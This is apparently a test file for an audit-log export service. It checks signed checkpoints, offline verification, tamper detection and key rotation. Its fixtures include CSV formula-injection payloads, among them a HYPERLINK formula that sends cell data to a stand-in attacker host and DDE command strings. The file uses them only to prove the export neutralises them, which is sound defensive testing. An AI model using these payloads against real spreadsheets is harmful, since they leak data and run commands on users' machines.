// An auditor's export, verified years later on another machine: the file (JSON, NDJSON or CSV) carries the
// signed checkpoints and a signed summary, and `npm run verify-export` checks it with no database against a
// key the auditor brings (never one taken from the file), naming the first row that does not match. A key
// change keeps the older checkpoints verifiable. CSV neutralises spreadsheet formulas in applicant-written
// text. A client that goes away mid-export ends the stream without an error in the service's log.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { desc, eq, sql } from 'drizzle-orm';
import pino from 'pino';
import request from 'supertest';
import { createApp } from '../../api/app';
import { auditColumns, canonicalHash, contentOfRow, type AuditContent } from '../../db/audit';
import { contentOfEvent, readExport, type ExportedEvent } from '../../audit/export';
import { GENESIS_HASH, loadCheckpointSigner, type Checkpoint, type CheckpointSigner } from '../../audit/chain';
import { auditCheckpoints, auditEvents } from '../../db/schema';
import { CaseStory } from '../support/steps';
import { apiHarness, expectProblem, type ApiHarness } from './support';

const run = promisify(execFile);
let h: ApiHarness;
let dir: string;
let keyFile: string;

/** Texts a spreadsheet would run as formulas, as an applicant could write them. */
const FORMULAS = {
  title: '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")',
  need: "+cmd|' /C calc'!A0",
  idea: '@SUM(1+1)*cmd|\' /C notepad\'!A1',
  expectedBenefits: "-2+3+cmd|' /C calc'!A0",
  apostrophe: "'=redan citerad",
};

beforeAll(async () => {
  h = await apiHarness();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'audit-export-'));
  const story = new CaseStory('PK-2026-0001', { title: FORMULAS.title });
  story.view.idea = { ...story.view.idea, need: FORMULAS.need, idea: FORMULAS.idea, expectedBenefits: FORMULAS.expectedBenefits };
  await h.record(story.started());
  // Each text also as a step's motivation: a column of its own in the CSV.
  const anna = { id: 'anna', name: 'Anna Berg', roles: ['applicant'], org: 'utbildning' };
  for (const text of Object.values(FORMULAS)) await h.record(story.step('request-change', { actor: anna, input: { reason: text }, motivation: text }));
  for (const step of new CaseStory('PK-2026-0002').toExecution()) await h.record(step);
  const key = await request(h.app).get('/api/v1/audit/public-key');
  expect(key.status).toBe(200);
  keyFile = path.join(dir, 'public-key.json');
  fs.writeFileSync(keyFile, JSON.stringify(key.body));
}, 60_000);
afterAll(async () => {
  fs.rmSync(dir, { recursive: true, force: true });
  await h?.close();
});

async function exportFile(format: 'json' | 'ndjson' | 'csv', query = ''): Promise<string> {
  const res = await request(h.app).get(`/api/v1/audit/events?format=${format}${query}`).set('Authorization', await h.auth('auditor'))
    .buffer(true).parse((r, cb) => { let t = ''; r.setEncoding('utf8'); r.on('data', (c: string) => { t += c; }); r.on('end', () => cb(null, t)); });
  expect(res.status).toBe(200);
  const file = path.join(dir, `export-${format}-${Math.random().toString(36).slice(2)}.${format}`);
  fs.writeFileSync(file, res.body as string);
  return file;
}

/** `npm run verify-export -- FILE --public-key KEY` (or other trust), as an auditor runs it: exit code and what it printed. */
async function verify(file: string, trust: string[] = ['--public-key', keyFile]): Promise<{ code: number; out: string }> {
  const args = ['tsx', 'scripts/verifyExport.ts', file, ...trust];
  try {
    const { stdout } = await run('npx', args, { cwd: path.join(__dirname, '../..') });
    return { code: 0, out: stdout };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, out: `${e.stdout}${e.stderr}` };
  }
}

describe('checkpoints', () => {
  test('an auditor signs the head on demand; anyone may read the public key; only auditors list and sign', async () => {
    const [head] = await h.database.db.select().from(auditEvents).orderBy(desc(auditEvents.seq)).limit(1);
    const signed = await h.post('/api/v1/audit/checkpoints', 'auditor');
    expect(signed.status).toBe(201);
    expect(signed.body).toMatchObject({ seq: head.seq, hash: head.hash, keyId: expect.stringMatching(/^[0-9a-f]{16}$/), signature: expect.any(String) });
    expect((await h.get('/api/v1/audit/checkpoints', 'auditor')).body.items).toEqual([signed.body]);
    expect((await request(h.app).get('/api/v1/audit/public-key')).body).toMatchObject({ keyId: signed.body.keyId, algorithm: 'Ed25519', publicKey: expect.stringContaining('BEGIN PUBLIC KEY') });
    expectProblem(await h.post('/api/v1/audit/checkpoints', 'officer'), 403, 'forbidden');
    expectProblem(await h.get('/api/v1/audit/checkpoints', 'admin'), 403, 'forbidden');
    // From the newest checkpoint on by default; the whole chain on request.
    expect((await h.get('/api/v1/audit/verify', 'auditor')).body).toMatchObject({ ok: true, checkpoints: 1, from: signed.body.seq, checked: 1 });
    expect((await h.get('/api/v1/audit/verify?full=true', 'auditor')).body).toMatchObject({ ok: true, checkpoints: 1, from: 1, checked: head.seq });
  });

  test('the newest signed head is kept outside the database too: removing it from the table and rewriting the rows it signed is caught', async () => {
    await h.record(new CaseStory('PK-2026-0003').started());
    const signed = (await h.post('/api/v1/audit/checkpoints', 'auditor')).body as Checkpoint;
    expect(JSON.parse(fs.readFileSync(h.config.audit.headFile, 'utf8'))).toEqual(signed);
    expect((await h.get('/api/v1/audit/verify', 'auditor')).body).toMatchObject({ ok: true, signedHead: signed.seq });

    // As someone who owns the tables: the checkpoint removed, the row it signed rewritten with a hash that links.
    const db = h.database.db;
    const [row] = await db.select(auditColumns).from(auditEvents).where(eq(auditEvents.seq, signed.seq));
    const forgedContent: AuditContent = { ...contentOfRow(row), motivation: 'Ändrad i efterhand' };
    const forgedHash = canonicalHash(forgedContent, row.prevHash);
    await asTableOwner(async () => {
      await db.delete(auditCheckpoints).where(eq(auditCheckpoints.signature, signed.signature));
      await db.update(auditEvents).set({ motivation: forgedContent.motivation, hash: forgedHash }).where(eq(auditEvents.seq, signed.seq));
    });
    const fromTable = fs.readFileSync(h.config.audit.headFile, 'utf8');
    fs.rmSync(h.config.audit.headFile);
    expect((await h.get('/api/v1/audit/verify?full=true', 'auditor')).body).toMatchObject({ ok: true, signedHead: null });
    fs.writeFileSync(h.config.audit.headFile, fromTable);
    expect((await h.get('/api/v1/audit/verify', 'auditor')).body).toMatchObject({ ok: false, reason: 'checkpoint-mismatch', signedHead: signed.seq });
    expect((await h.get('/api/v1/audit/verify?full=true', 'auditor')).body).toMatchObject({ ok: false, reason: 'checkpoint-mismatch', signedHead: signed.seq });

    await asTableOwner(async () => {
      await db.insert(auditCheckpoints).values(signed);
      await db.update(auditEvents).set({ motivation: row.motivation, hash: row.hash }).where(eq(auditEvents.seq, signed.seq));
    });
    expect((await h.get('/api/v1/audit/verify?full=true', 'auditor')).body).toMatchObject({ ok: true, signedHead: signed.seq });
  });
});

/** Runs changes the append-only triggers refuse, as someone who owns the tables and switches them off. */
async function asTableOwner(change: () => Promise<void>): Promise<void> {
  const db = h.database.db;
  await db.execute(sql`ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only`);
  await db.execute(sql`ALTER TABLE audit_checkpoints DISABLE TRIGGER audit_checkpoints_append_only`);
  try { await change(); } finally {
    await db.execute(sql`ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only`);
    await db.execute(sql`ALTER TABLE audit_checkpoints ENABLE TRIGGER audit_checkpoints_append_only`);
  }
}

describe('an export verified offline', () => {
  beforeAll(async () => { expect((await h.post('/api/v1/audit/checkpoints', 'auditor')).status).toBe(201); });

  test.each(['json', 'ndjson', 'csv'] as const)('%s: whole, it verifies with the published key', async (format) => {
    const file = await exportFile(format);
    const result = await verify(file);
    expect(result).toMatchObject({ code: 0, out: expect.stringMatching(/OK: \d+ rows, [1-9]\d* checkpoints and the signed summary verified with the trusted key; the whole chain/) });
  });

  test('the fingerprint of the published key serves as well as the key file', async () => {
    const { fingerprint } = JSON.parse(fs.readFileSync(keyFile, 'utf8')) as { fingerprint: string };
    expect(fingerprint).toMatch(/^[0-9a-f]{64}$/);
    expect(await verify(await exportFile('ndjson'), ['--fingerprint', fingerprint])).toMatchObject({ code: 0, out: expect.stringContaining('OK:') });
  });

  test('without a key to trust it verifies nothing and says why', async () => {
    const result = await verify(await exportFile('json'), []);
    expect(result.code).toBe(2);
    expect(result.out).toContain('Give the key to verify against');
  });

  test("a forged export, re-hashed and signed with the forger's own key carried inside it, fails against the service's key", async () => {
    const file = await exportFile('json');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    const forger = loadCheckpointSigner(path.join(dir, 'forger.pem'), { generate: true });
    doc.items.find((e: { action: string }) => e.action === 'decide').input.grantedAmount = 28_000_000;
    forge(doc, forger);
    fs.writeFileSync(file, JSON.stringify(doc));
    const { fingerprint } = JSON.parse(fs.readFileSync(keyFile, 'utf8')) as { fingerprint: string };
    expect(await verify(file)).toMatchObject({ code: 1, out: expect.stringContaining('The summary is not signed by a trusted key') });
    // The service's fingerprint names no key the forged file carries.
    expect(await verify(file, ['--fingerprint', fingerprint])).toMatchObject({ code: 1, out: expect.stringContaining('No trusted key') });
    // It is whole and consistent: only the key it is checked against tells it apart.
    expect(await verify(file, ['--fingerprint', forger.publicKey.fingerprint])).toMatchObject({ code: 0 });
  });

  test('a row changed in the file is named', async () => {
    const file = await exportFile('json');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    const target = doc.items.find((e: { action: string }) => e.action === 'decide');
    target.input.grantedAmount = 28_000_000;
    fs.writeFileSync(file, JSON.stringify(doc));
    const result = await verify(file);
    expect(result.code).toBe(1);
    expect(result.out).toContain(`BROKEN at row ${target.seq}: its hash does not match its content`);
  });

  test('a CSV cell changed is named', async () => {
    const file = await exportFile('csv');
    const text = fs.readFileSync(file, 'utf8');
    expect(text).toContain('Tydlig nyttokalkyl');
    fs.writeFileSync(file, text.replace('Tydlig nyttokalkyl', 'Otydlig nyttokalkyl'));
    const result = await verify(file);
    expect(result.code).toBe(1);
    const rows = parse(text, { columns: true }) as { record: string; seq: string; input: string }[];
    const changed = rows.find((r) => r.record === 'event' && r.input.includes('Tydlig nyttokalkyl'))!;
    expect(result.out).toContain(`BROKEN at row ${changed.seq}`);
  });

  test('rows removed from the end, the summary made to agree, no longer match its signature', async () => {
    const file = await exportFile('ndjson');
    const lines = fs.readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    const events = lines.filter((l) => !l.checkpoint && !l.export).sort((a, b) => a.seq - b.seq);
    const kept = events.slice(0, -2);
    const summary = lines.find((l) => l.export);
    summary.export.events = kept.length;
    fs.writeFileSync(file, [...kept, ...lines.filter((l) => l.checkpoint), summary].map((l) => JSON.stringify(l)).join('\n'));
    expect(await verify(file)).toMatchObject({ code: 1, out: expect.stringContaining('The summary is not signed by a trusted key') });
    // Left as it was, the summary names rows the file no longer holds.
    summary.export.events = events.length;
    fs.writeFileSync(file, [...kept, ...lines.filter((l) => l.checkpoint), summary].map((l) => JSON.stringify(l)).join('\n'));
    expect(await verify(file)).toMatchObject({ code: 1, out: expect.stringContaining('counts') });
  });

  test('a row removed from the middle of a filtered export, or one swapped for another, is caught by the signed digest', async () => {
    const file = await exportFile('json', '&caseId=PK-2026-0002');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    const all = doc.items;
    doc.items = [...all.slice(0, 2), ...all.slice(3)];
    doc.items.push(all[2]);
    fs.writeFileSync(file, JSON.stringify(doc));
    expect(await verify(file)).toMatchObject({ code: 1, out: expect.stringContaining('does not hold the rows the signed summary names') });
  });

  test('a checkpoint signed with another key, and a file cut short, are refused', async () => {
    const file = await exportFile('json');
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    doc.checkpoints[0].signature = Buffer.from('x'.repeat(64)).toString('base64');
    fs.writeFileSync(file, JSON.stringify(doc));
    expect((await verify(file)).out).toContain('does not verify with a trusted key');
    const whole = await exportFile('json');
    const text = fs.readFileSync(whole, 'utf8');
    fs.writeFileSync(whole, text.slice(0, Math.floor(text.length / 2)));
    expect(await verify(whole)).toMatchObject({ code: 1, out: expect.stringContaining('no closing summary') });
  });

  test('a filtered export verifies each row and says what it could not check', async () => {
    const result = await verify(await exportFile('csv', '&caseId=PK-2026-0001'));
    expect(result).toMatchObject({ code: 0, out: expect.stringContaining('a filtered export (caseId=PK-2026-0001)') });
  });
});

/** What a forger with write access to the file does: re-hash the chain, re-sign checkpoints and summary with their own key. */
function forge(doc: { items: ExportedEvent[]; checkpoints: { seq: number; at: string }[]; export: Record<string, unknown> }, forger: CheckpointSigner): void {
  let prevHash = GENESIS_HASH;
  // The chain runs in seq order; the file lists rows in time order.
  for (const e of [...doc.items].sort((a, b) => a.seq - b.seq)) {
    e.prevHash = prevHash;
    e.hash = canonicalHash(contentOfEvent(e), prevHash);
    prevHash = e.hash;
  }
  doc.checkpoints = doc.checkpoints.map((c) => forger.sign({ seq: c.seq, at: c.at, hash: doc.items.find((e) => e.seq === c.seq)!.hash }));
  const digest = createHash('sha256');
  for (const e of doc.items) digest.update(`${e.hash}\n`);
  const unsigned = Object.fromEntries(Object.entries(doc.export).filter(([field]) => field !== 'keyId' && field !== 'signature'));
  Object.assign(unsigned, { digest: digest.digest('hex'), publicKeys: forger.published });
  doc.export = { ...unsigned, ...forger.signRecord(unsigned) };
}

test('CSV: applicant-written formulas are neutralised, and read back unchanged', async () => {
  const text = fs.readFileSync(await exportFile('csv', '&caseId=PK-2026-0001'), 'utf8');
  const cells = (parse(text, { relax_column_count: false }) as string[][]).flat();
  // No cell starts the way a spreadsheet takes for a formula.
  expect(cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  // Each prefixed with one apostrophe: shown as text, never run.
  expect(rows.filter((r) => r.action === 'request-change').map((r) => r.motivation)).toEqual(Object.values(FORMULAS).map((t) => `'${t}`));
  const started = rows.find((r) => r.action === 'case-started')!;
  expect(JSON.parse(started.input)).toMatchObject({ title: FORMULAS.title, need: FORMULAS.need, idea: FORMULAS.idea });
  // Read back, every text is what the applicant wrote.
  expect(readExport(text).events.filter((e) => e.action === 'request-change').map((e) => e.motivation)).toEqual(Object.values(FORMULAS));
});

test('a client that goes away mid-export ends the stream: nothing is logged as an error, and the service goes on', async () => {
  // Enough rows that the answer outgrows the socket's buffers.
  const [last] = await h.database.db.select({ hash: auditEvents.hash }).from(auditEvents).orderBy(desc(auditEvents.seq)).limit(1);
  let prevHash = last.hash;
  const rows = Array.from({ length: 3_000 }, (_, n) => {
    const content: AuditContent = {
      caseId: 'PK-2025-0001', caseSeq: n + 1, at: new Date(Date.UTC(2025, 0, 1) + n * 60_000).toISOString(),
      actor: { id: 'system', name: 'Systemet', roles: ['system'], org: null }, action: 'reminder',
      stageBefore: 'execution', stageAfter: 'execution', input: { padding: 'x'.repeat(500) }, outcome: { n }, motivation: null,
    };
    const hash = canonicalHash(content, prevHash);
    const row = { ...content, actorId: 'system', actorName: 'Systemet', actorRoles: ['system'], actorOrg: null, prevHash, hash };
    prevHash = hash;
    return row;
  });
  for (let i = 0; i < rows.length; i += 500) await h.database.db.insert(auditEvents).values(rows.slice(i, i + 500));

  const lines: { level: number; msg: string }[] = [];
  const sink = new Writable({ write(chunk, _, done) { lines.push(JSON.parse(String(chunk))); done(); } });
  const app = createApp({ ...h.deps, logger: pino({ level: 'debug' }, sink) });
  const server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const port = (server.address() as AddressInfo).port;
  try {
    const authorization = await h.auth('auditor');
    const received = await new Promise<number>((resolve, reject) => {
      const req = http.get({ port, host: '127.0.0.1', path: '/api/v1/audit/events?format=csv', headers: { authorization } }, (res) => {
        let bytes = 0;
        res.on('data', (chunk: Buffer) => {
          bytes += chunk.length;
          // Gone after the first part, long before the end.
          if (bytes > 64 * 1024) { req.destroy(); resolve(bytes); }
        });
        res.on('end', () => reject(new Error('the export ended before the client went away')));
      });
      req.on('error', () => undefined);
    });
    expect(received).toBeLessThan(3_000 * 500);
    // The server notices, stops reading the database, and answers the next request.
    await new Promise((resolve) => setTimeout(resolve, 500));
    const next = await request(server).get('/api/v1/audit/verify').set('Authorization', authorization);
    expect(next.body).toMatchObject({ ok: true });
    expect(lines.filter((l) => l.level >= 40)).toEqual([]);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});

// Last: the checkpoints it signs with the new key are not the original app's to verify.
describe('a change of the signing key', () => {
  test('the retired key stays published; checkpoints of both keys verify, online and in an export given both fingerprints', async () => {
    await h.post('/api/v1/audit/checkpoints', 'auditor');
    const retiredFile = path.join(dir, 'retired-public.pem');
    fs.writeFileSync(retiredFile, JSON.parse(fs.readFileSync(keyFile, 'utf8')).publicKey);
    const config = { ...h.config, audit: { ...h.config.audit, signingKeyFile: path.join(dir, 'next-key.pem'), generateSigningKey: true, retiredPublicKeyFiles: [retiredFile] } };
    const rotated = createApp({ ...h.deps, config, signer: undefined });
    const auditor = await h.auth('auditor');
    const published = (await request(rotated).get('/api/v1/audit/public-key')).body;
    const old = JSON.parse(fs.readFileSync(keyFile, 'utf8'));
    expect(published.fingerprint).not.toBe(old.fingerprint);
    expect(published.retired).toEqual([expect.objectContaining({ fingerprint: old.fingerprint, keyId: old.keyId })]);
    expect((await request(rotated).post('/api/v1/audit/checkpoints').set('Authorization', auditor)).status).toBe(201);
    const checkpoints = (await request(rotated).get('/api/v1/audit/checkpoints').set('Authorization', auditor)).body.items as { keyId: string }[];
    expect(new Set(checkpoints.map((c) => c.keyId))).toEqual(new Set([old.keyId, published.keyId]));
    expect((await request(rotated).get('/api/v1/audit/verify?full=true').set('Authorization', auditor)).body).toMatchObject({ ok: true, checkpoints: checkpoints.length });

    const res = await request(rotated).get('/api/v1/audit/events?format=json').set('Authorization', auditor);
    const file = path.join(dir, 'rotated.json');
    fs.writeFileSync(file, res.text);
    expect(await verify(file, ['--fingerprint', published.fingerprint, '--fingerprint', old.fingerprint])).toMatchObject({ code: 0, out: expect.stringContaining('OK:') });
    // Trusting the new key alone, the older checkpoints cannot be vouched for.
    expect(await verify(file, ['--fingerprint', published.fingerprint])).toMatchObject({ code: 1, out: expect.stringContaining('does not verify with a trusted key') });
  });
});
